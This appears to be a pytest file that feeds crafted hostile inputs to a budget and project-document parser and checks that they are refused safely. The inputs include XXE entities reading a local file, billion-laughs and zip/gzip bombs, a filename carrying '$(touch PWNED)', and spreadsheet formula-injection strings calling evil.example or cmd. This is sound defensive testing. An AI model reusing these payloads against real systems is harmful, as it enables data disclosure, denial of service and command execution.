"""Files built to hurt a parser: zip bombs, entity floods, external entities, encrypted or corrupt PDFs,
pathological HTML, odd encodings. Each ends in the reader's documented error naming the file (or in rows),
never a crash, a hang, a leaked local file or a file written under a scraped name."""
from __future__ import annotations

import csv
import gzip
import io
import re
import shutil
import struct
import zipfile
from pathlib import Path
from urllib.parse import quote

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.settings import Settings
from pipelines.steps import parsed_tables, raw_crawl
from conftest import time_limit
from sources import budget, projects
from sources.budget import BudgetFileError
from sources.catalog import load_catalog
from sources.extract import UnreadableDocument, read_document
from sources.mirror_server import serve_mirror
from sources.projects.cells import CellError
from sources.projects.grids import LayoutError
from sources.safety import DamagedArchive, GzipLimits, UnsafeFile, ZipLimits, check_ooxml, check_zip, gunzipped, is_formula_like, neutralise_cell

MIRROR = Path(__file__).resolve().parent.parent / "sources" / "mirror"
MARKER = "ASHYQ-LOCAL-SECRET-7f3a"
FIXED = (2024, 1, 1, 0, 0, 0)
PROJECT_ERRORS = (LayoutError, CellError, UnreadableDocument)


# ------------------------------------------------------------------ builders


def workbook_bytes() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Наименование проекта", "Сумма, тыс. тенге", "Подрядчик", "Срок"])
    sheet.append(["Школа (Демо)", 1000, "ТОО «Демо Құрылыс»", "2024"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def docx_bytes(text: str = "Меморандум ТОО «Демо» на сумму 100 млн тенге") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The same package with some parts' bytes replaced or added (fixed timestamps: deterministic)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = (replace or {}).get(info.filename, source.read(info.filename))
            target.writestr(zipfile.ZipInfo(info.filename, FIXED), body, zipfile.ZIP_DEFLATED)
        for name, body in (add or {}).items():
            target.writestr(zipfile.ZipInfo(name, FIXED), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_dtd(xml: bytes, dtd: str, reference: str) -> bytes:
    """Insert a DOCTYPE after the XML declaration and `reference` into the first text run (<t> or <w:t>)."""
    head, sep, rest = xml.partition(b"?>")
    xml = head + sep + dtd.encode() + rest if sep else dtd.encode() + xml
    return re.sub(rb"(<(?:w:)?t(?: [^>]*)?>)", lambda m: m.group(1) + reference.encode(), xml, count=1)


def xxe_dtd(secret: Path) -> str:
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'


LAUGHS = ('<!DOCTYPE x [<!ENTITY a "hahahahahahahahahahahaha">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>")


def patch_declared_size(data: bytes, name: str, size: int) -> bytes:
    """Rewrite one entry's uncompressed size in the central directory (a bomb that lies about nothing else)."""
    raw = bytearray(data)
    at = raw.find(b"PK\x01\x02" + b"", 0)
    while at != -1:
        name_len = struct.unpack("<H", raw[at + 28:at + 30])[0]
        if raw[at + 46:at + 46 + name_len].decode() == name:
            raw[at + 24:at + 28] = struct.pack("<I", size)
            return bytes(raw)
        at = raw.find(b"PK\x01\x02", at + 4)
    raise AssertionError(name)


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text(MARKER)
    return path


# ------------------------------------------------------------------ XML entities in XLSX and DOCX


SHEET = "xl/worksheets/sheet1.xml"


def xlsx_with(dtd: str, reference: str, part: str = SHEET) -> bytes:
    book = workbook_bytes()
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        xml = z.read(part)
    return rewrite(book, {part: with_dtd(xml, dtd, reference)})


def test_xlsx_with_an_external_entity_is_refused_by_both_readers(secret):
    hostile = xlsx_with(xxe_dtd(secret), "&xxe;")
    with pytest.raises(BudgetFileError, match=r"evil\.xlsx: unsafe XLSX: .*declares a DTD"):
        budget.parse_file(hostile, name="evil.xlsx")
    with pytest.raises(LayoutError, match=r"evil\.xlsx: .*declares a DTD"):
        projects.parse_file(hostile, name="evil.xlsx")


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "[Content_Types].xml"])
def test_openpyxl_itself_does_not_resolve_external_entities(secret, part):
    """Defence in depth: even without Ashyq's check, openpyxl 3.1 must not read the local file
    (worksheets go through expat, other parts through lxml with resolve_entities=False)."""
    hostile = xlsx_with(xxe_dtd(secret), "&xxe;", part)
    try:
        loaded = openpyxl.load_workbook(io.BytesIO(hostile))
    except Exception:  # noqa: BLE001 - refusing to parse is as good as not resolving
        return
    values = [str(c.value) for ws in loaded.worksheets for row in ws.iter_rows() for c in row]
    assert values and not any(MARKER in v for v in values)


def test_docx_with_an_external_entity_is_refused_and_python_docx_would_not_resolve_it(secret):
    document = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(document)) as z:
        body = z.read("word/document.xml")
    hostile = rewrite(document, {"word/document.xml": with_dtd(body, xxe_dtd(secret), "&xxe;")})
    with pytest.raises(UnreadableDocument, match=r"memo\.docx: .*declares a DTD"):
        read_document(hostile, name="memo.docx")
    try:
        text = "\n".join(p.text for p in docx.Document(io.BytesIO(hostile)).paragraphs)
    except Exception:  # noqa: BLE001
        text = ""
    assert MARKER not in text


@pytest.mark.parametrize("kind", ["xlsx", "docx"])
def test_an_entity_expansion_bomb_is_refused_quickly(kind):
    if kind == "xlsx":
        hostile = xlsx_with(LAUGHS, "&i;")
    else:
        data = docx_bytes()
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            xml = z.read("word/document.xml")
        hostile = rewrite(data, {"word/document.xml": with_dtd(xml, LAUGHS, "&i;")})
    with time_limit(5):
        with pytest.raises((BudgetFileError, UnreadableDocument, LayoutError), match="DTD"):
            if kind == "xlsx":
                budget.parse_file(hostile, name="laughs.xlsx")
            else:
                read_document(hostile, name="laughs.docx")


def test_a_dtd_hidden_in_utf16_is_still_found():
    data = docx_bytes()
    xml = ('<?xml version="1.0" encoding="UTF-16"?>' + xxe_dtd(Path("/etc/hostname")) + "<w:document/>").encode("utf-16")
    with pytest.raises(UnsafeFile, match="DTD"):
        check_ooxml(rewrite(data, {"word/document.xml": xml}))


# ------------------------------------------------------------------ zip bombs


def test_a_highly_compressed_entry_is_refused_before_it_is_inflated():
    bomb = rewrite(workbook_bytes(), add={"xl/media/zeros.bin": b"\0" * (40 * 1024 * 1024)})
    assert len(bomb) < 200_000
    with time_limit(5):
        with pytest.raises(BudgetFileError, match=r"bomb\.xlsx: unsafe XLSX: zip archive inflates \d+-fold"):
            budget.parse_file(bomb, name="bomb.xlsx")
        with pytest.raises(LayoutError, match=r"bomb\.xlsx: .*inflates"):
            projects.parse_file(bomb, name="bomb.xlsx")
        with pytest.raises(UnreadableDocument, match=r"bomb\.docx: .*inflates"):
            read_document(rewrite(docx_bytes(), add={"word/media/zeros.bin": b"\0" * (40 * 1024 * 1024)}), name="bomb.docx")


def test_a_gzip_bomb_is_refused_before_it_is_inflated_whole():
    bomb = gzip.compress(b"0" * (64 * 1024 * 1024), compresslevel=9)  # 64 MB in about 64 KB
    with time_limit(5):
        with pytest.raises(BudgetFileError, match=r"bomb\.csv\.gz: unsafe gzip file: .*more than 200-fold.*a gzip bomb"):
            budget.parse_file(bomb, name="bomb.csv.gz")
        with pytest.raises(LayoutError, match=r"bomb\.csv\.gz: not a readable gzip file .*a gzip bomb"):
            projects.parse_file(bomb, name="bomb.csv.gz")


def test_gzip_data_is_inflated_whole_or_refused_as_damaged():
    data = "Код;Наименование;Исполнено\n".encode("cp1251") * 2000
    packed = gzip.compress(data)
    assert gunzipped(packed + gzip.compress(b"x") + b"\0" * 8, "r.csv.gz") == (data + b"x", "r.csv")  # members, padding
    assert gunzipped(data, "r.csv") == (data, "r.csv")
    for damaged, said in ((packed[:-30], "ends before its end-of-stream marker"), (packed + b"junk", "not readable gzip"),
                          (b"\x1f\x8bnot gzip at all", "not readable gzip")):
        with pytest.raises(DamagedArchive, match=said):
            gunzipped(damaged, "r.csv.gz")
    with pytest.raises(UnsafeFile, match="inflates past 1000 bytes"):
        gunzipped(packed, "r.csv.gz", GzipLimits(max_uncompressed=1000))
    with pytest.raises(BudgetFileError, match=r"cut\.csv\.gz: damaged gzip file: .*ends before"):
        budget.parse_file(packed[:-30], name="cut.csv.gz")
    with pytest.raises(BudgetFileError, match=r"^notes\.csv\.gz: no recognisable budget table header"):  # the name as given
        budget.parse_file(gzip.compress(b"just notes\nno table here\n"), name="notes.csv.gz")
    with pytest.raises(LayoutError, match=r"^notes\.csv\.gz: no table"):
        projects.parse_file(gzip.compress(b"just notes\nno table here\n"), name="notes.csv.gz")


def test_an_entry_declaring_gigabytes_is_refused_from_the_directory_alone():
    lying = patch_declared_size(workbook_bytes(), "xl/workbook.xml", 3 * 1024**3)
    with pytest.raises(BudgetFileError, match=r"inflates to 3221225472 bytes"):
        budget.parse_file(lying, name="lying.xlsx")
    with pytest.raises(UnreadableDocument, match="inflates to"):
        read_document(patch_declared_size(docx_bytes(), "word/document.xml", 3 * 1024**3), name="lying.docx")


def test_too_many_entries_are_refused():
    many = rewrite(docx_bytes(), add={f"customXml/item{i}.bin": b"" for i in range(300)})
    with pytest.raises(UnsafeFile, match=r"has 3\d\d entries \(limit 100\)"):
        check_zip(many, ZipLimits(max_entries=100))
    check_zip(docx_bytes(), ZipLimits(max_entries=100))  # an ordinary document passes


def test_an_encrypted_zip_entry_is_refused():
    raw = bytearray(docx_bytes())
    at = raw.find(b"PK\x01\x02")
    raw[at + 8] |= 0x1  # the general-purpose "encrypted" bit in the central directory
    with pytest.raises(UnreadableDocument, match="encrypted"):
        read_document(bytes(raw), name="locked.docx")


# ------------------------------------------------------------------ PDFs


def test_an_encrypted_pdf_names_the_file():
    pypdf = pytest.importorskip("pypdf")
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("user-password", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(UnreadableDocument, match=r"locked\.pdf: PDF is encrypted"):
        read_document(buffer.getvalue(), name="locked.pdf")


@pytest.mark.parametrize("data", [
    b"%PDF-1.7\n" + b"\0" * 5000,
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [2 0 R] /Count 1 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    b"%PDF-1.4\n1 0 obj << /Length 999999999 >> stream\nxx\nendstream endobj\ntrailer << /Root 1 0 R >>",
])
def test_corrupt_or_self_referencing_pdfs_are_errors_not_hangs(data):
    with time_limit(5):
        with pytest.raises(UnreadableDocument, match=r"broken\.pdf: "):
            read_document(data, name="broken.pdf")


def test_a_pdf_with_absurdly_many_pages_is_refused(monkeypatch):
    pypdf = pytest.importorskip("pypdf")
    from sources.extract import pdf_text

    writer = pypdf.PdfWriter()
    for _ in range(6):
        writer.add_blank_page(10, 10)
    buffer = io.BytesIO()
    writer.write(buffer)
    monkeypatch.setattr(pdf_text, "MAX_PAGES", 5)
    with pytest.raises(UnreadableDocument, match=r"6 pages \(limit 5\)"):
        read_document(buffer.getvalue(), name="many.pdf")


# ------------------------------------------------------------------ HTML and text


NESTED = b"<div>" * 50_000 + "Меморандум".encode() + b"</div>" * 10
UNCLOSED_CELLS = b"<html><body><p>unclosed <b><i><table><tr><td>cell" + b"<td>" * 10_000
ODD = [
    b"<html><body>" + b"<p title='" + b"x" * 2_000_000 + b"'>text</p></body></html>",
    b"<html>\x00\x00<body>nul\x00bytes<script>" + b"<" * 10_000 + b"</script>\xff\xfe</body>",
    b"<html><body><table><tr><td rowspan=999999999 colspan=999999999>x</td><td>y</td></tr></table></body></html>",
    "<html><body><table><tr><th>Наименование проекта</th><th>Сумма</th><th>Подрядчик</th></tr>"
    "<tr><td>=HYPERLINK(\"http://evil.example\")</td><td>1e999999</td><td>ТОО «Демо»</td></tr></table></body></html>".encode(),
]


def read_or_refuse(markup: bytes) -> None:
    try:
        assert isinstance(read_document(markup, name="page.html", content_type="text/html"), str)
    except UnreadableDocument as error:
        assert "page.html" in str(error)


def parse_projects_or_refuse(markup: bytes) -> None:
    try:
        assert isinstance(projects.parse_file(markup, name="page.html", content_type="text/html"), dict)
    except PROJECT_ERRORS as error:
        assert "page.html" in str(error)


@pytest.mark.parametrize("markup", [NESTED, UNCLOSED_CELLS, *ODD])
def test_pathological_html_tables_are_read_or_refused_quickly(markup):
    with time_limit(5):
        parse_projects_or_refuse(markup)


@pytest.mark.parametrize("markup", ODD)
def test_pathological_html_text_is_read_or_refused_quickly(markup):
    with time_limit(5):
        read_or_refuse(markup)


@pytest.mark.parametrize("markup", [b"<div>" * 5_000 + b"x", b"<table><tr><td>" * 1 + b"<td>" * 5_000])
def test_html_text_does_not_hang_on_many_block_tags(markup):
    """A hang guard, not a speed goal: the quadratic reader took minutes here; the linear one well under a second."""
    with time_limit(10):
        read_or_refuse(markup)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "cp1251", "koi8-r", "shift_jis", "utf-32", "cp866"])
def test_csv_in_unexpected_encodings_reads_or_names_the_problem(encoding):
    text = "Наименование;Утверждено;Исполнено\nШкола;100,5;90\nИтого;100,5;90\n"
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        data = text.encode(encoding, errors="replace")
    for reader, errors in ((budget.parse_file, (BudgetFileError,)), (projects.parse_file, PROJECT_ERRORS)):
        try:
            result = reader(data, name=f"lines-{encoding}.csv")
        except errors as error:
            assert f"lines-{encoding}.csv" in str(error)
        else:
            assert isinstance(result, dict)


@pytest.fixture
def default_csv_limit():
    """The csv module's own field limit (other imports, e.g. frictionless, raise it process-wide)."""
    previous = csv.field_size_limit(131_072)
    yield
    csv.field_size_limit(previous)


def test_a_csv_field_beyond_the_csv_module_limit_is_a_layout_error(default_csv_limit):
    data = b'name;amount\n"' + b"x" * 300_000 + b'";1\n'
    with pytest.raises(LayoutError, match=r"huge\.csv: not a readable CSV file .*field larger"):
        projects.parse_file(data, name="huge.csv")
    with pytest.raises(BudgetFileError, match="huge.csv"):
        budget.parse_file(data, name="huge.csv")


# ------------------------------------------------------------------ attachment names are never file names


ARCHIVE_FILE = re.compile(r"^(sha256/[0-9a-f]{2}/[0-9a-f]{64}(\.json)?|urls/[0-9a-f]{64}\.json)$")


def test_attachment_names_never_become_file_paths(tmp_path, monkeypatch):
    """An attachment linked under a hostile name is fetched, archived by sha256 and parsed; no file is ever
    created under its name, here or anywhere under the working directory."""
    root = tmp_path / "mirror"
    shutil.copytree(MIRROR / "www.gov.kz", root / "www.gov.kz")
    hostile = "pwned $(touch PWNED);name..docx"
    docx_file = sorted((root / "www.gov.kz").rglob("*.docx"))[0]
    docx_file.rename(docx_file.with_name(hostile))
    old_link = docx_file.name.encode()
    for page in (root / "www.gov.kz").rglob("*"):
        if page.is_file() and page.suffix not in (".docx", ".pdf") and old_link in page.read_bytes():
            page.write_bytes(page.read_bytes().replace(old_link, quote(hostile).encode()))
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    source = next(s for s in load_catalog() if s.id == "atyrau-akimat")
    with serve_mirror(root) as base:
        settings = Settings(published_dir=tmp_path / "pub", archive_dir=tmp_path / "raw", mirror_url=base, live=False)
        manifest = raw_crawl(source, settings)
    tables = parsed_tables(source, manifest, settings)
    assert any("pwned" in str(row.get("locator", "")) for rows in tables.values() for row in rows)  # it was read
    written = [p.relative_to(tmp_path / "raw").as_posix() for p in (tmp_path / "raw").rglob("*") if p.is_file()]
    assert written and all(ARCHIVE_FILE.match(p) for p in written), [p for p in written if not ARCHIVE_FILE.match(p)]
    assert list(work.iterdir()) == []
    assert not [p for p in tmp_path.rglob("*") if "mirror" not in p.relative_to(tmp_path).parts and "pwned" in p.name.lower()]


# ------------------------------------------------------------------ spreadsheet formula injection


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1", "@", "+", "-A1"])
def test_formula_like_text_is_neutralised(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+7 7212 55-12-34", "-1 234,56", "+7 (7212) 55 12 34", "-", "--", "Школа №5", "",
                                  "'=already quoted", " =leading space", "Демо = пример", "5-10"])
def test_numbers_placeholders_and_ordinary_text_are_left_alone(text):
    assert neutralise_cell(text) == text


@given(st.text(max_size=40))
@settings(max_examples=300, database=None, derandomize=True, deadline=None)
def test_neutralised_text_is_never_formula_like_and_keeps_the_original(text):
    safe = neutralise_cell(text)
    assert not is_formula_like(safe) and safe.endswith(text) and neutralise_cell(safe) == safe
